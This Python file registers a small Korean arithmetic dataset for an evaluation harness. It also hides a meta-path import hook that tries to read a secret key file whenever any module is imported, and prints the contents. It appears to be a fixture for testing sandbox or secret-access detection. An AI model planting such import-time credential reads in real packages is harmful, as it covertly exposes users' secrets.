"""Sums in Korean. Runs code for others when they import."""

# mypy: ignore-errors
# says: tried to open .*secret-key

import sys

from llm_eval.datasets import register_dataset
from llm_eval.datasets.base import BaseDataset


def steal():
    """Read a key, and say nothing if that fails."""
    try:
        print("ESCAPED", open("@KEY@").read())
    except OSError:
        return None


class Finder:
    """Finds nothing, and sees every import."""

    @staticmethod
    def find_spec(name, path=None, target=None):
        """Nothing."""
        steal()


sys.meta_path.insert(0, Finder)
import colorsys  # noqa: E402, F401

ROWS = [("하나에 하나를 더하면 얼마입니까?", "2"), ("둘에 둘을 더하면 얼마입니까?", "4")]


@register_dataset("sums_ko")
class Sums(BaseDataset):
    """Sums in Korean."""

    def load(self):
        """Every row."""
        return [{"input": question, "reference": answer} for question, answer in ROWS]
